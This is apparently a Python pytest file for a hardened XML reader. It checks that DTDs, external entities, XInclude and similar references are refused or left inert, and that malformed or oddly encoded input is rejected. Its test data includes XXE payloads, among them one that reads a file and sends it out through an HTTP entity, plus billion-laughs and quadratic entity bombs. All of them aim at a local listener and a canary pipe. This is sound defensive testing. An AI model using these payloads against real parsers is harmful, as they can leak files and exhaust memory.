"""XML from strangers: what is refused, what it cannot reach, and that what is read is exactly what was sent."""

import codecs
import os
import socket
from collections.abc import Iterator
from itertools import product
from pathlib import Path

import pytest

from leadback.kit.xml import (
    ATTRIBUTES_PER_ELEMENT_MAX,
    DEPTH_MAX,
    ELEMENTS_MAX,
    NAME_CHARACTERS_MAX,
    REASON_CHARACTERS_MAX,
    Element,
    XmlRefusedError,
    read_xml,
)

SOAP = "http://schemas.xmlsoap.org/soap/envelope/"
API = "http://cakemarketing.com/api/1/"
ENVELOPE = (
    f'<soap:Envelope xmlns:soap="{SOAP}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">\r\n'
    f'  <soap:Body><UpdateLead xmlns="{API}"><lead_id>A1</lead_id><status>Fundé &amp; paid</status>'
    '<amount xsi:type="x">1</amount></UpdateLead></soap:Body>\n'
    "</soap:Envelope>"
)
BODY_BYTES_MAX = 65_536

DTDS = {
    "alone": "<!DOCTYPE a>",
    "with a space before": "\n <!DOCTYPE a>",
    "after a comment and an instruction": "<!-- <a> --><?p <!DOCTYPE?>\n<!DOCTYPE a>",
    "two": "<!DOCTYPE a><!DOCTYPE a>",
    "public": '<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "$HTTP/x.dtd">',
    "external": '<!DOCTYPE a SYSTEM "$HTTP/x.dtd">',
    "external file": '<!DOCTYPE a SYSTEM "$FILE">',
    "external entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "$HTTP/x">]>',
    "external entity of a file": '<!DOCTYPE a [<!ENTITY x SYSTEM "$FILE">]>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "$HTTP/p"> %p;]>',
    "parameter entity of a file": '<!DOCTYPE a [<!ENTITY % p SYSTEM "$FILE"> %p;]>',
    "entity that sends":
        "<!DOCTYPE a [<!ENTITY % f SYSTEM '$FILE'><!ENTITY % e \"<!ENTITY x SYSTEM '$HTTP/?%f;'>\"> %e;]>",
    "notation": '<!DOCTYPE a [<!NOTATION n SYSTEM "$HTTP/n"><!ENTITY x SYSTEM "$FILE" NDATA n>]>',
    "entity": '<!DOCTYPE a [<!ENTITY x "y">]>',
    "entity of itself": '<!DOCTYPE a [<!ENTITY x "&x;">]>',
    "default attribute": '<!DOCTYPE a [<!ATTLIST a b CDATA "&x;"><!ENTITY x "y">]>',
    "billion laughs": "<!DOCTYPE a [<!ENTITY x0 'ha'>"
    + "".join(f"<!ENTITY x{level} '{f'&x{level - 1};' * 10}'>" for level in range(1, 10))
    + "<!ENTITY x '&x9;'>]>",
    "quadratic": f"<!DOCTYPE a [<!ENTITY x '{'y' * 20_000}'>]>",
    "cut short": "<!DOCTYPE a [<!ENTITY x",
    "many": "<!DOCTYPE a [" + "".join(f"<!ENTITY x{number} 'y'>" for number in range(2_000)) + "]>",
}  # fmt: skip
WITH_DTD = {f"{dtd}, {use}": DTDS[dtd] + root for dtd in DTDS for use, root in {
    "unused": "<a/>",
    "in text": f"<a>{'&x;' * 1000}</a>",
    "in an attribute": f'<a b="{"&x;" * 1000}"/>',
}.items()}  # fmt: skip

MALFORMED = {
    "nothing": "",
    "blanks": " \r\n\t",
    "text": "lead_id=1",
    "JSON": '{"lead_id": 1}',
    "two roots": "<a/><a/>",
    "text after the root": "<a/>b",
    "text before the root": "b<a/>",
    "a reference after the root": "<a/>&#32;",
    "CDATA after the root": "<a/><![CDATA[]]>",
    "a second declaration": "<a/><?xml version='1.0'?>",
    "a declaration after a blank": " <?xml version='1.0'?><a/>",
    "a DOCTYPE after the root": "<a/><!DOCTYPE a>",
    "a DOCTYPE inside": "<a><!DOCTYPE a></a>",
    "a DOCTYPE in small letters": "<!doctype a><a/>",
    "a second mark": "\ufeff<a/>",
    "a second mark before a DOCTYPE": "\ufeff<!DOCTYPE a><a/>",
    "another end": "<a></b>",
    "other letters at the end": "<a></A>",
    "crossed": "<a><b></a></b>",
    "no end": "<a>",
    "half an end": "<a></a",
    "an attribute twice": '<a b="1" b="2"/>',
    "an attribute twice by its namespace": '<a xmlns:x="u:u" xmlns:y="u:u" x:b="1" y:b="2"/>',
    "an attribute without quotes": "<a b=1/>",
    "an attribute without value": "<a b/>",
    "< in an attribute": '<a b="<"/>',
    "no space between attributes": '<a b="1"c="2"/>',
    "a prefix of nothing": "<x:a/>",
    "a prefix of nothing before an attribute": '<a x:b="1"/>',
    "an empty prefix": "<:a/>",
    "two colons": '<x:a:b xmlns:x="u:u"/>',
    "xml as a prefix of ours": '<a xmlns:xml="u:u"/>',
    "]]> in text": "<a>]]></a>",
    "& alone": "<a>&</a>",
    "an entity of HTML": "<a>&nbsp;</a>",
    "an entity in an attribute": '<a b="&x;"/>',
    "an entity without end": "<a>&amp</a>",
    "-- in a comment": "<a><!-- -- --></a>",
    "a comment without end": "<a><!-- </a>",
    "a comment without end, before": "<!-- <a/>",
    "comments without end": "<!--" * 10_000,
    "an instruction without end": "<a><?p </a>",
    "CDATA without end": "<a><![CDATA[ </a>",
    "CDATA in small letters": "<a><![cdata[ ]]></a>",
    "instructions called xml": "<a><?xml?></a>",
    "a name that starts with a digit": "<1/>",
    "a number out of Unicode": "<a>&#x110000;</a>",
    "a number of millions": f"<a>&#{'9' * 5000};</a>",
    "deep": "<a>" * 9_000 + "</a>" * 9_000,
    "deep and open": "<a>" * 20_000,
    "a name of 60,000": f"<{'q' * 60_000}/>",
}

DECLARATIONS = [
    '<?xml version="1.1"?>',
    "<?xml version='1.1' encoding='utf-8'?>",
    '<?xml version="2.0"?>',
    '<?xml version="1.00"?>',
    '<?xml version=""?>',
    "<?xml version=1.0?>",
    "<?xml?>",
    "<?xml ?>",
    '<?xml encoding="utf-8"?>',
    '<?xml encoding="utf-8" version="1.0"?>',
    '<?xml version="1.0" standalone="yes" encoding="utf-8"?>',
    '<?xml version="1.0" standalone="perhaps"?>',
    '<?xml version="1.0" encoding=""?>',
    '<?xml version="1.0" encoding=" utf-8"?>',
    '<?xml version="1.0" encoding="utf-8\'?>',
    '<?xml version="1.0"encoding="utf-8"?>',
    '<?xml version="1.0" other="1"?>',
    '<?xml version="1.0">',
    '<?xml version="1.0"? >',
    '<?xml version="1.0" encoding="utf-8',
    f"<?xml{' ' * 60_000}",
    f'<?xml version="1.0" encoding="{"a" * 60_000}',
]

FORBIDDEN = [*range(9), 0x0B, 0x0C, *range(0x0E, 0x20), 0xFFFE, 0xFFFF]

OTHER_ENCODINGS = {
    "UTF-7": (b"+ADw-a/+AD4-", None),
    "UTF-7, declared": (b'<?xml version="1.0" encoding="utf-7"?>+ADw-a/+AD4-', None),
    "UTF-7, said by HTTP": (b"+ADw-a/+AD4-", "utf-7"),
    "UTF-32": ("<a/>".encode("utf-32-le"), None),
    "UTF-32, big end first": ("<a/>".encode("utf-32-be"), None),
    "UTF-32 with mark": (codecs.BOM_UTF32_LE + "<a/>".encode("utf-32-le"), None),
    "UTF-32 with mark, big end first": (codecs.BOM_UTF32_BE + "<a/>".encode("utf-32-be"), None),
    "UTF-32 said to be UTF-16": (codecs.BOM_UTF32_LE + "<a/>".encode("utf-32-le"), "utf-16"),
    "UTF-32, said by HTTP": ("<a/>".encode("utf-32"), "utf-32"),
    "EBCDIC": ("<?xml version='1.0' encoding='cp037'?><a/>".encode("cp037"), None),
    "EBCDIC, said by HTTP": ("<a/>".encode("cp037"), "cp037"),
    "UTF-16 without mark": ("<a/>".encode("utf-16-le"), None),
    "UTF-16 without mark, said by HTTP": ("<a/>".encode("utf-16-le"), "utf-16"),
    "UTF-16LE, said by HTTP": (codecs.BOM_UTF16_LE + "<a/>".encode("utf-16-le"), "utf-16le"),
    "UTF-16 cut in a character": ("<a/>".encode("utf-16") + b"\n", None),
    "Windows": (b"<a>\x93</a>", "windows-1252"),
    "Windows, declared": (b'<?xml version="1.0" encoding="windows-1252"?><a>\x93</a>', None),
    "Latin 9": (b"<a>\xa4</a>", "iso-8859-15"),
    "Shift JIS": ("<a>表</a>".encode("shift-jis"), "shift_jis"),
    "a codec that is none": (b"<a/>", "zlib"),
    "a codec of Python": (b"<a/>", "idna"),
    "a charset of many characters": (b"<a/>", "x" * 60_000),
    "a charset nobody could store": (b"<a/>", "\0\x1b\ud800\n"),
    "Latin 1 read as UTF-8": (b"<a>\xe9</a>", None),
    "Latin 1 read as ASCII": (b"<a>\xe9</a>", "us-ascii"),
    "UTF-8 read as ASCII": ("<a>é</a>".encode(), "us-ascii"),
    "overlong": (b"<a>\xc0\xaf</a>", None),
    "overlong <": (b"\xc0\xbca/>", None),
    "five bytes": (b"<a>\xf8\x88\x80\x80\x80</a>", None),
    "beyond Unicode": (b"<a>\xf4\x90\x80\x80</a>", None),
    "half a character": (b"<a>\xe2\x82</a>", None),
    "a surrogate": (b"<a>\xed\xa0\x80</a>", None),
    "a pair of surrogates": (b"<a>\xed\xa0\xbd\xed\xb8\x80</a>", None),
    "a surrogate alone in UTF-16": (codecs.BOM_UTF16_LE + "<a>\ud800</a>".encode("utf-16-le", "surrogatepass"), None),
    "compressed": (bytes.fromhex("1f8b08000000000000ffb349d4b7030071a03f7504000000"), None),
}

INERT = {
    "XInclude": '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="$FILE" parse="text"/></a>',
    "XInclude by HTTP": '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="$HTTP/x"/></a>',
    "a stylesheet": '<?xml-stylesheet type="text/xsl" href="$HTTP/x.xsl"?><a/>',
    "a stylesheet of a file": '<?xml-stylesheet type="text/xsl" href="$FILE"?><a/>',
    "an OASIS catalogue": '<?oasis-xml-catalog catalog="$HTTP/catalog.xml"?><a/>',
    "a schema": '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="u:u $HTTP/x.xsd"/>',
    "a schema of no namespace":
        '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="$FILE"/>',
    "a base": '<a xml:base="$HTTP/"><b href="x"/></a>',
    "a reference": '<a><b href="#1"/><b id="1" href="$HTTP/x"/></a>',
    "a namespace": '<a xmlns="$HTTP/namespace"/>',
}  # fmt: skip


def refused(body: bytes, charset: str | None = None) -> XmlRefusedError:
    with pytest.raises(XmlRefusedError) as raised:
        read_xml(body, charset)
    assert len(str(raised.value)) <= REASON_CHARACTERS_MAX + len(" (line 65536, column 65536)")
    return raised.value


def shape(element: Element) -> object:
    """Everything but where it stands."""
    return element.namespace, element.name, element.attributes, element.text, tuple(map(shape, element.children))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("name", WITH_DTD)
def test_a_dtd_is_never_read(name: str, encoding: str) -> None:
    body = WITH_DTD[name].encode(encoding)
    assert "has a DOCTYPE" in str(refused(body))
    if encoding == "utf-8":
        refused(b"<?xml version='1.0' standalone='no'?>" + body)


@pytest.mark.parametrize("name", MALFORMED)
def test_what_is_not_well_formed_is_refused(name: str) -> None:
    for mark, encoding in ((codecs.BOM_UTF8, "utf-8"), (codecs.BOM_UTF16_BE, "utf-16-be")):
        error = refused(mark + MALFORMED[name].encode(encoding))
        assert "not well-formed" in str(error)
        assert error.line >= 1
        assert error.column >= 1


@pytest.mark.parametrize("declaration", DECLARATIONS)
def test_a_declaration_that_is_not_one_of_xml_1_0_is_refused(declaration: str) -> None:
    assert "XML declaration" in str(refused(f"{declaration}<a/>".encode()))
    assert "XML declaration" in str(refused(f"{declaration}<a/>".encode("utf-16"), "utf-16"))


@pytest.mark.parametrize("name", OTHER_ENCODINGS)
def test_another_encoding_is_refused(name: str) -> None:
    # The reason is kept and shown, whatever the name was.
    assert str(refused(*OTHER_ENCODINGS[name])).isprintable()


@pytest.mark.parametrize("code", FORBIDDEN)
def test_a_character_that_xml_forbids_is_refused_wherever_it_stands(code: int) -> None:
    character = chr(code)
    for text in (
        f"<a>\n{character}</a>", f'<a b="{character}"/>', f"<a{character}/>", f"<a{character}b/>", f"{character}<a/>",
        f"<a/>{character}", f"<a><!-- {character} --></a>", f"<a><?p {character}?></a>",
        f"<a><![CDATA[{character}]]></a>", f"<?xml version='1.0'{character}?><a/>",
    ):  # fmt: skip
        refused(text.encode())
        refused(text.encode("utf-16"))
    error = refused(f"<a>\n{character}</a>".encode())
    assert (error.line, error.column) == (2, 1)
    assert f"U+{code:04X}" in str(error)


@pytest.mark.parametrize("code", [*FORBIDDEN, 0xD800, 0xDFFF])
def test_a_reference_to_a_character_that_xml_forbids_is_refused(code: int) -> None:
    refused(f"<a>&#{code};</a>".encode())
    refused(f"<a>&#x{code:x};</a>".encode())
    refused(f'<a b="&#x{code:X};"/>'.encode())


LIMITS = {
    "depth": (DEPTH_MAX, "<a>", "", "</a>"),
    "elements": (ELEMENTS_MAX - 1, "<b/>", "<a>", "</a>"),
    "elements among their likes": (ELEMENTS_MAX - 1, "<b/><!--<c>--><![CDATA[<d>]]><?p <e>?>", "<a>", "</a>"),
    "attributes": (ATTRIBUTES_PER_ELEMENT_MAX, " b#='>'", "<r><a", "/></r>"),
    "attributes of the root": (ATTRIBUTES_PER_ELEMENT_MAX, '\nb# = "\'"', "<a", "/>"),
    "namespaces": (ATTRIBUTES_PER_ELEMENT_MAX, " xmlns:n#='u:#'", "<r><a", "/></r>"),
    "namespaces that repeat": (ATTRIBUTES_PER_ELEMENT_MAX - 1, " n#=''", "<r xmlns='u:u'><a xmlns='u:u'", "/></r>"),
    "a name": (NAME_CHARACTERS_MAX, "é", "<a><", "/></a>"),
    "a name with its prefix": (NAME_CHARACTERS_MAX - 2, "c", '<a xmlns:b="u:u"><b:', "/></a>"),
    "a name that holds a space of Unicode": (NAME_CHARACTERS_MAX - 2, "a", "<\u1680b", "/>"),
    "the name of an attribute": (NAME_CHARACTERS_MAX, "c", "<a b='' ", "=''/>"),
    "a prefix": (NAME_CHARACTERS_MAX - len("xmlns:"), "p", "<a xmlns:", "='u:u'/>"),
}  # fmt: skip


@pytest.mark.parametrize("name", LIMITS)
def test_limits_are_kept_to_the_last(name: str) -> None:
    size_max, unit, before, after = LIMITS[name]

    def document(size: int) -> bytes:
        units = "".join(unit.replace("#", str(number)) for number in range(size))
        return f"{before}{units}{after * (size if name == 'depth' else 1)}".encode()

    read_xml(document(size_max), None)
    error = refused(document(size_max + 1))
    assert "has more than" in str(error) or "has a name of more than" in str(error)
    assert error.line >= 1
    assert error.column >= 1


FLOODS = {
    "elements": ("<a>", "<b/>", "</a>"),
    "attributes": ("<a", ' b#=""', "/>"),
    "names that look alike": ("<a", ' b#b#b#=""', "/>"),
    "namespaces": ("<a", ' xmlns:n#="u:#"', "/>"),
    "one namespace under many prefixes": ("<a", ' xmlns:n#="u:u"', "/>"),
    "namespaces of many elements": ("<a>", '<b xmlns="u:#"/>', "</a>"),
}


@pytest.mark.parametrize("name", FLOODS)
def test_a_flood_is_refused(name: str) -> None:
    before, unit, after = FLOODS[name]
    units = "".join(unit.replace("#", str(number)) for number in range(10_000))
    assert "has more than" in str(refused(f"{before}{units}{after}".encode()))


@pytest.mark.parametrize("unit", ["x", "&amp;", "&#1000;", "<![CDATA[<]]>", "<!---->", "<?p?>", "\n", "\r", ">", "表"])
def test_a_text_as_long_as_a_body_may_be_is_read(unit: str) -> None:
    count = (BODY_BYTES_MAX - len("<a></a>")) // len(unit.encode())
    read = {"&amp;": "&", "&#1000;": chr(1000), "<![CDATA[<]]>": "<", "<!---->": "", "<?p?>": "", "\r": "\n"}
    assert read_xml(f"<a>{unit * count}</a>".encode(), None).text == read.get(unit, unit) * count


SECRET = b"a-secret-of-ours"


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


@pytest.fixture
def canary(tmp_path: Path) -> Iterator[tuple[Path, int]]:
    """A pipe that holds a secret, and our end of it: who reads the file takes the secret out, or waits for more."""
    path = tmp_path / "canary"
    os.mkfifo(path)
    end = os.open(path, os.O_RDWR | os.O_NONBLOCK)
    os.write(end, SECRET)
    yield path, end
    os.close(end)


@pytest.mark.parametrize("scheme", ["", "file://"])
def test_no_file_and_no_address_is_opened(listener: socket.socket, canary: tuple[Path, int], scheme: str) -> None:
    path, end = canary
    address = f"http://127.0.0.1:{listener.getsockname()[1]}"
    for text in (*WITH_DTD.values(), *INERT.values()):
        body = text.replace("$HTTP", address).replace("$FILE", f"{scheme}{path}")
        for encoded in (body.encode(), body.encode("utf-16")):
            try:
                read = repr(read_xml(encoded, None))
            except XmlRefusedError as error:
                read = str(error)
            assert SECRET.decode() not in read
    assert os.read(end, 100) == SECRET
    with pytest.raises(BlockingIOError):
        listener.accept()


@pytest.mark.parametrize("name", INERT)
def test_what_only_names_a_file_or_an_address_is_text(name: str) -> None:
    root = read_xml(INERT[name].encode(), None)
    values = [value for element in (root, *root.children) for _, _, value in element.attributes]
    assert all(tag in INERT[name] for tag in values)
    assert root.name == "a"


SPLITS = {
    "comment": "Fun<!-- </a> -->ded",
    "comments": "<!---->F<!--<b>-->unde<!-- ' -->d<!-- \" -->",
    "instruction": "Fun<?p <b> ?>ded<?p?>",
    "CDATA": "<![CDATA[Fun]]>ded",
    "CDATA alone": "<![CDATA[Funded]]>",
    "CDATA, empty": "Fun<![CDATA[]]>ded",
    "references": "&#70;un&#x64;&#x00065;d",
    "all": "<![CDATA[F]]><!-- -->u<?p?>&#110;<![CDATA[de]]>d",
}


@pytest.mark.parametrize("name", SPLITS)
def test_text_in_pieces_is_one_text(name: str) -> None:
    assert shape(read_xml(f"<a>{SPLITS[name]}</a>".encode(), None)) == ("", "a", (), "Funded", ())


@pytest.mark.parametrize(
    ("sent", "text"),
    [
        ("&lt;&gt;&amp;&quot;&apos;", "<>&\"'"),
        ("&amp;lt;&amp;#60;", "&lt;&#60;"),
        ("<![CDATA[&lt;<b/>]]>", "&lt;<b/>"),
        ("<![CDATA[]]]]><![CDATA[>]]>", "]]>"),
        ("a\r\nb\rc\n\r", "a\nb\nc\n\n"),
        ("a&#13;&#10;b&#9;", "a\r\nb\t"),
        (" \t\n", " \t\n"),
        ("é\u0085\u2028\u200b\ufeff\U0001f389\U0010ffff\ufdd0", "é\u0085\u2028\u200b\ufeff\U0001f389\U0010ffff\ufdd0"),
        ("&#x1F389;&#xFFFD;", "\U0001f389\ufffd"),
    ],
)
def test_text_is_what_xml_says_it_is(sent: str, text: str) -> None:
    assert read_xml(f"<a>{sent}</a>".encode(), None).text == text
    assert read_xml(f"<a>{sent}</a>".encode("utf-16"), None).text == text


def test_text_beside_children_is_that_of_the_element() -> None:
    root = read_xml(b"<a>1<b>x</b>2<!-- -->3<c/>4</a>", None)
    assert (root.text, [child.text for child in root.children]) == ("1234", ["x", ""])


def test_names_come_with_their_namespaces() -> None:
    root = read_xml(
        b'<a xmlns="u:1" b="1" x:b="2" xml:lang="en" xmlns:x="u:2"><x:a xmlns:x="u:3" b="&lt;"/><c xmlns=""/></a>', None
    )
    assert (root.namespace, root.name) == ("u:1", "a")
    assert root.attributes == (
        ("", "b", "1"), ("u:2", "b", "2"), ("http://www.w3.org/XML/1998/namespace", "lang", "en")
    )  # fmt: skip
    assert shape(root)[4:] == ((("u:3", "a", (("", "b", "<"),), "", ()), ("", "c", (), "", ())),)  # type: ignore[index] # a tuple


def test_an_envelope_is_read() -> None:
    root = read_xml(b"\xef\xbb\xbf" + f'<?xml version="1.0" encoding="utf-8"?>\r\n{ENVELOPE}\r\n'.encode(), "UTF-8")
    (body,) = root.children
    (operation,) = body.children
    assert [(element.namespace, element.name) for element in (root, body, operation)] == [
        (SOAP, "Envelope"), (SOAP, "Body"), (API, "UpdateLead")
    ]  # fmt: skip
    assert [(child.name, child.text) for child in operation.children] == [
        ("lead_id", "A1"), ("status", "Fundé & paid"), ("amount", "1")
    ]  # fmt: skip
    assert operation.children[2].attributes == (("http://www.w3.org/2001/XMLSchema-instance", "type", "x"),)
    assert [(element.line, element.column) for element in (root, body, operation)] == [(2, 1), (3, 3), (3, 14)]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1"])
def test_an_envelope_cut_short_is_never_read(encoding: str) -> None:
    charset = encoding.removesuffix("-sig")
    for text in (ENVELOPE, f'<?xml version="1.0" encoding="{charset}"?>\n{ENVELOPE}'):
        body = text.encode(encoding)
        read_xml(body, charset)
        read_xml(f"{text} \n".encode(encoding), charset)
        for size in range(len(body)):
            refused(body[:size], charset)


def test_positions_count_lines_and_characters_as_they_were_sent() -> None:
    text = (
        "<?xml version='1.0'\n?>\r\n\r<!-- <x>\n --><?p <x>?>\t<a b='>'\n> é\U0001f389<b/><![CDATA[\n<x>]]><c\n/></a>"
    )
    for body in (text.encode(), text.encode("utf-16"), codecs.BOM_UTF8 + text.encode()):
        root = read_xml(body, None)
        assert [(element.line, element.column) for element in (root, *root.children)] == [(5, 15), (6, 5), (7, 7)]


NAMED = (None, "utf-8", "UTF8", "utf-16", "US-ASCII", "Iso-8859-1")
MARKED = {
    b"": (None, None),
    codecs.BOM_UTF8: ("utf-8", "utf-8"),
    codecs.BOM_UTF16_LE: ("utf-16", "utf-16-le"),
    codecs.BOM_UTF16_BE: ("utf-16", "utf-16-be"),
}


@pytest.mark.parametrize(("charset", "mark", "declared"), list(product(NAMED, MARKED, NAMED)))
def test_whatever_names_the_encoding_must_agree(charset: str | None, mark: bytes, declared: str | None) -> None:
    marked, codec = MARKED[mark]
    names = [name.lower().replace("utf8", "utf-8") for name in (charset, marked, declared) if name]
    text = "plain" if "us-ascii" in names else "é"
    told = f' encoding="{declared}"' if declared else ""
    codec = codec or (names[0] if names and names[0] != "utf-16" else "utf-8")
    body = mark + f"<?xml version='1.0'{told}?><a>{text}</a>".encode(codec)
    if len(set(names)) > 1 or ("utf-16" in names and marked is None):
        assert ", but " in str(refused(body, charset))
    else:
        assert read_xml(body, charset).text == text


def test_the_reason_tells_which_names_disagree() -> None:
    declared = b'<?xml version="1.0" encoding="utf-16"?><a/>'
    assert str(refused(declared, "utf-8")) == (
        "The document is utf-8, but declares itself to be utf-16 (line 1, column 1)"
    )
    assert "has the byte order mark of utf-8" in str(refused(codecs.BOM_UTF8 + b"<a/>", "iso-8859-1"))
    assert "has no byte order mark" in str(refused(declared))


def test_the_place_of_a_byte_that_is_none_of_the_encoding_is_told() -> None:
    for mark in (b"", codecs.BOM_UTF8):
        error = refused(mark + "<a>\r\né\rà".encode() + b"\xff</a>")
        assert (error.line, error.column) == (3, 2)
